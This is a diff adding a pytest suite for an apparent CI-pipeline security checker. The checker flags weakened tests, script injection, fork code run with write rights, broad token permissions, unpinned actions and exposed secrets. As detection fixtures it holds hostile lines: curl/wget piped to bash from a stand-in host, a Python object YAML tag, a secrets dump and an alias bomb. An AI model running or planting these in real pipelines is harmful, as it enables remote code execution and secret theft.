@@ -1,0 +1,306 @@
+"""What the pack says of changed workflows."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from harness.check.interface import CheckSkipped
+from tests.packs.small_context import load_check, pack_of, rules, run_pack
+
+load_check(pack_of("pipeline"))
+from harness_packs.pipeline.commands import runs_fetched_code, swallows, verifies  # noqa: E402
+from harness_packs.pipeline.reading import read_pipeline  # noqa: E402
+from harness_packs.pipeline.tree import UnreadableError, read_yaml  # noqa: E402
+
+PATH = ".github/workflows/ci.yml"
+SHA = "1" * 40
+
+
+def workflow(*steps, on="pull_request", permissions="permissions: {contents: read}", job="", jobs=""):
+    lines = "".join(f"      - {step}\n" for step in steps)
+    return (
+        f"on: [{on}]\n{permissions}\njobs:\n  test:\n    runs-on: ubuntu-24.04\n{job}    steps:\n"
+        f"      - uses: actions/checkout@{SHA}\n{lines}{jobs}"
+    )
+
+
+TESTS = "run: python -m pytest"
+BASE = workflow(TESTS)
+
+
+def found(folder, base, head, path=PATH):
+    outcome = run_pack("pipeline", folder, {path: base} if base else {}, {path: head} if head else {})
+    return sorted((one.rule.removeprefix("pipeline-"), one.severity) for one in outcome.findings)
+
+
+@pytest.mark.parametrize(
+    ("head", "expected"),
+    [
+        (workflow(TESTS, "run: echo ok"), []),
+        (workflow("run: python -m pytest -q --maxfail=1"), []),
+        (workflow("run: uv run pytest"), []),
+        (workflow(TESTS, "run: rm -rf build || true"), []),
+        (workflow("{run: python -m pytest, continue-on-error: true}"), [("check-ignored", "high")]),
+        (workflow(TESTS, job="    continue-on-error: true\n"), [("check-ignored", "high")]),
+        (workflow("run: python -m pytest || echo failed"), [("check-ignored", "high")]),
+        (workflow("run: python -m pytest; exit 0"), [("check-ignored", "high")]),
+        (workflow("run: |\n          set +e\n          python -m pytest"), [("check-ignored", "high")]),
+        (workflow("run: python -m pytest --ignore=tests/slow"), [("tests-left-out", "medium")]),
+        (workflow("run: echo done"), [("check-removed", "high")]),
+        (workflow(TESTS, job="    if: false\n"), [("check-removed", "high")]),
+        (workflow("{run: python -m pytest, if: false}"), [("check-removed", "high")]),
+        (workflow("run: make check-all"), []),
+        (workflow(TESTS, on="schedule"), [("check-removed", "high")]),
+        (workflow(TESTS, on="push"), []),
+    ],
+)
+def test_checks_that_no_longer_block(tmp_path, head, expected):
+    assert found(tmp_path, BASE, head) == expected
+
+
+def test_a_check_that_could_fail_on_base_is_not_new(tmp_path):
+    base = workflow("{name: T, run: python -m pytest, continue-on-error: true}")
+    assert found(tmp_path, base, base.replace("name: T", "name: Tests")) == []
+
+
+def test_a_check_may_move_to_another_workflow(tmp_path):
+    other = ".github/workflows/tests.yml"
+    outcome = run_pack("pipeline", tmp_path, {PATH: BASE}, {PATH: workflow("run: echo"), other: BASE})
+    assert not outcome.findings
+
+
+def test_lower_coverage(tmp_path):
+    base = workflow("run: pytest --cov-fail-under=90")
+    assert found(tmp_path / "1", base, base.replace("90", "60")) == [("coverage-lowered", "medium")]
+    assert found(tmp_path / "2", base, base.replace("90", "95")) == []
+
+
+def test_a_removed_linter_is_medium(tmp_path):
+    assert found(tmp_path, workflow(TESTS, "run: ruff check ."), BASE) == [("check-removed", "medium")]
+    assert found(tmp_path / "2", workflow(TESTS, "run: flake8"), workflow(TESTS, "run: ruff check .")) == []
+
+
+TITLE = "${{ github.event.pull_request.title }}"
+
+
+@pytest.mark.parametrize(
+    ("step", "on", "expected"),
+    [
+        (f"run: echo '{TITLE}'", "pull_request", [("script-injection", "high")]),
+        (f"run: echo '{TITLE}'", "issues, pull_request", [("script-injection", "critical")]),
+        ("run: git checkout ${{ github.head_ref }}", "pull_request", [("script-injection", "high")]),
+        (
+            "{run: 'echo ${{ env.T }}', env: {T: '" + TITLE + "'}}",
+            "pull_request",
+            [("script-injection", "high")],
+        ),
+        ("{run: 'echo \"$T\"', env: {T: '" + TITLE + "'}}", "pull_request", []),
+        ("run: echo ${{ github.event.pull_request.number }} ${{ github.sha }}", "pull_request", []),
+        ("run: echo ${{ contains(github.event.pull_request.title, 'WIP') }}", "pull_request", []),
+        ("run: echo ${{ github.event.pull_request.head.sha }}", "pull_request", []),
+        (
+            "{uses: actions/github-script@" + SHA + ", with: {script: 'log(`" + TITLE + "`)'}}",
+            "pull_request",
+            [("script-injection", "high")],
+        ),
+    ],
+)
+def test_untrusted_text_in_scripts(tmp_path, step, on, expected):
+    assert found(tmp_path, workflow(TESTS, on=on), workflow(TESTS, step, on=on)) == expected
+
+
+def test_code_of_a_fork_with_rights(tmp_path):
+    step = "{uses: actions/checkout@" + SHA + ", with: {ref: '${{ github.event.pull_request.head.sha }}'}}"
+    read = workflow(TESTS, step, on="pull_request_target")
+    assert found(tmp_path / "1", BASE, read) == [("foreign-code", "high")]
+    write = workflow(TESTS, step, on="pull_request_target", permissions="permissions: write-all")
+    assert found(tmp_path / "2", BASE, write) == [("foreign-code", "critical"), ("rights-grown", "high")]
+    assert found(tmp_path / "3", BASE, workflow(TESTS, step)) == []
+    by_hand = workflow(TESTS, "run: gh pr checkout 1", on="issue_comment, pull_request")
+    assert ("foreign-code", "high") in found(tmp_path / "4", BASE, by_hand)
+
+
+@pytest.mark.parametrize(
+    ("permissions", "expected"),
+    [
+        ("permissions: {contents: read, pull-requests: write}", []),
+        ("permissions: {contents: write}", [("rights-grown", "medium")]),
+        ("permissions: write-all", [("rights-grown", "high")]),
+        ("permissions: read-all", []),
+        ("permissions: {}", []),
+        ("name: ci", [("rights-unlimited", "medium")]),
+    ],
+)
+def test_rights_of_the_token(tmp_path, permissions, expected):
+    assert found(tmp_path, BASE, workflow(TESTS, permissions=permissions)) == expected
+
+
+def test_a_new_release_job_may_ask_for_what_it_needs(tmp_path):
+    job = "  release:\n    needs: [test]\n    permissions: {contents: write}\n    steps: []\n"
+    assert found(tmp_path / "1", workflow(TESTS, on="push"), workflow(TESTS, on="push", jobs=job)) == []
+    changed = workflow(TESTS, on="push", job="    permissions: {contents: write}\n")
+    assert found(tmp_path / "2", workflow(TESTS, on="push"), changed) == [("rights-grown", "medium")]
+
+
+@pytest.mark.parametrize(
+    ("step", "expected"),
+    [
+        ("uses: someone/thing@main", [("action-at-branch", "medium")]),
+        ("uses: someone/thing@v2", [("action-unpinned", "low")]),
+        (f"uses: someone/thing@{SHA}", []),
+        ("uses: actions/setup-python@v5", []),
+        ("uses: ./local/action", []),
+        ("uses: docker://alpine:3.20", []),
+    ],
+)
+def test_pins_of_actions(tmp_path, step, expected):
+    assert found(tmp_path, BASE, workflow(TESTS, step)) == expected
+
+
+def test_an_action_that_loses_its_commit(tmp_path):
+    assert found(tmp_path, BASE, BASE.replace(SHA, "v4")) == [("action-unpinned", "low")]
+
+
+def test_tags_are_ordinary_where_base_uses_tags(tmp_path):
+    base = BASE.replace(SHA, "v4")
+    head = workflow(TESTS, "uses: someone/thing@v2").replace(SHA, "v5")
+    assert found(tmp_path, base, head) == []
+
+
+def test_secrets(tmp_path):
+    step = "{run: ./label, env: {KEY: '${{ secrets.BOT_KEY }}'}}"
+    target = {"on": "pull_request_target, pull_request"}
+    head = workflow(TESTS, step, **target)
+    assert found(tmp_path / "1", workflow(TESTS, **target), head) == [("secret-exposed", "medium")]
+    assert found(tmp_path / "2", workflow(TESTS, on="push"), workflow(TESTS, step, on="push")) == []
+    everything = workflow(TESTS, "{run: ./x, env: {ALL: '${{ toJSON(secrets) }}'}}")
+    assert found(tmp_path / "3", BASE, everything) == [("all-secrets", "high")]
+
+
+def test_gates(tmp_path):
+    job = "  deploy:\n    needs: [test]\n    environment: production\n    steps: [{run: ./deploy}]\n"
+    base = workflow(TESTS, on="push", jobs=job)
+    assert found(tmp_path / "1", base, base.replace("    needs: [test]\n", "")) == [("gate-opened", "medium")]
+    dropped = base.replace("    environment: production\n", "")
+    assert found(tmp_path / "2", base, dropped) == [("environment-dropped", "medium")]
+
+
+def test_old_dangers_are_not_reported(tmp_path):
+    old = workflow(TESTS, f"run: echo {TITLE}", "uses: a/b@main", on="pull_request_target")
+    assert found(tmp_path, old, old.replace("ubuntu-24.04", "ubuntu-22.04")) == []
+
+
+def test_a_danger_is_new_again_when_events_make_it_worse(tmp_path):
+    old = workflow(TESTS, f"run: echo {TITLE}")
+    head = workflow(TESTS, f"run: echo {TITLE}", on="pull_request_target")
+    assert ("script-injection", "critical") in found(tmp_path, old, head)
+
+
+def test_the_line_is_that_of_the_expression(tmp_path):
+    head = workflow(TESTS, f"run: |\n          set -e\n          echo {TITLE}")
+    outcome = run_pack("pipeline", tmp_path, {PATH: BASE}, {PATH: head})
+    line = outcome.findings[0].location.line
+    assert TITLE in head.split("\n")[line - 1]
+
+
+GITLAB = (
+    "unit:\n  script:\n    - pytest\n\nship:\n  needs: [unit]\n  environment: live\n  script: [./deploy]\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "expected"),
+    [
+        ("- pytest", "- pytest || true", [("check-ignored", "high")]),
+        ("  script:\n", "  allow_failure: true\n  script:\n", [("check-ignored", "high")]),
+        ("- pytest", "- echo", [("check-removed", "high")]),
+        ("  needs: [unit]\n", "", []),
+        ("unit:\n", "include:\n  - remote: https://x.example/a.yml\nunit:\n", [("remote-include", "medium")]),
+        ("- pytest", "- pytest\n    - curl https://x.example | bash", [("runs-fetched-code", "medium")]),
+        ("unit:\n", "unit:\n  image: python:3.12\n", []),
+    ],
+)
+def test_gitlab(tmp_path, old, new, expected):
+    head = GITLAB.replace(old, new)
+    if "needs" in old:  # the name of the job says what it does
+        head, expected = head.replace("ship", "deploy"), []
+    assert found(tmp_path, GITLAB, head, ".gitlab-ci.yml") == expected
+
+
+@pytest.mark.parametrize(
+    ("line", "kinds"),
+    [
+        ("python -m pytest -q", {"tests"}),
+        ("pip install pytest ruff", set()),
+        ("pip install -e . && pytest", {"tests"}),
+        ("npm ci && npm test", {"tests"}),
+        ("go test ./...", {"tests"}),
+        ("cat pytest.ini", set()),
+        ("uvx ruff check .", {"lint"}),
+        ("mypy src", {"types"}),
+        ("python tests/make_data.py", set()),
+    ],
+)
+def test_what_a_line_verifies(line, kinds):
+    assert verifies(line) == kinds
+
+
+@pytest.mark.parametrize(
+    ("line", "fetched"),
+    [
+        ("curl -sSL https://x.example/i.sh | bash", True),
+        ("wget -qO- https://x.example | sudo -E sh", True),
+        ("bash <(curl -s https://x.example)", True),
+        ('bash -c "$(curl -fsSL https://x.example)"', True),
+        ("curl -o tool.tgz https://x.example && sha256sum -c sums", False),
+        ("curl https://x.example | jq .", False),
+    ],
+)
+def test_fetched_code(line, fetched):
+    assert runs_fetched_code(line) is fetched
+
+
+def test_ignoring_is_not_handling():
+    assert swallows("pytest || true")
+    assert not swallows("pytest || exit 1")
+    assert not swallows("pytest && echo ok")
+
+
+@given(st.text(max_size=200))
+def test_any_text_is_read_or_refused(text):
+    for path in (PATH, ".gitlab-ci.yml", "action.yml"):
+        try:
+            read_pipeline(path, text)
+        except UnreadableError:
+            continue
+
+
+@pytest.mark.parametrize(
+    "text", ["a: [", "[" * 5_000, "a: &a [1]\n" + "b: &b [*a]\n" * 3, "!!python/object:os.system x"]
+)
+def test_hostile_yaml_builds_nothing(text):
+    try:
+        assert read_yaml(text).line >= 1
+    except UnreadableError:
+        return
+
+
+def test_aliases_do_not_explode():
+    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
+    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 9)]
+    with pytest.raises(UnreadableError, match="more than"):
+        read_yaml("\n".join(lines))
+
+
+def test_an_unreadable_pipeline_is_unverified(tmp_path):
+    outcome = run_pack("pipeline", tmp_path, {PATH: BASE}, {PATH: "jobs: ["})
+    assert [one.what for one in outcome.unverified] == [PATH]
+
+
+def test_a_deleted_pipeline_loses_its_checks(tmp_path):
+    assert rules(run_pack("pipeline", tmp_path, {PATH: BASE}, {})) == [("pipeline-check-removed", PATH, 1)]
+
+
+def test_other_files_are_skipped(tmp_path):
+    with pytest.raises(CheckSkipped):
+        run_pack("pipeline", tmp_path, {}, {"a.yml": "x: 1\n"})
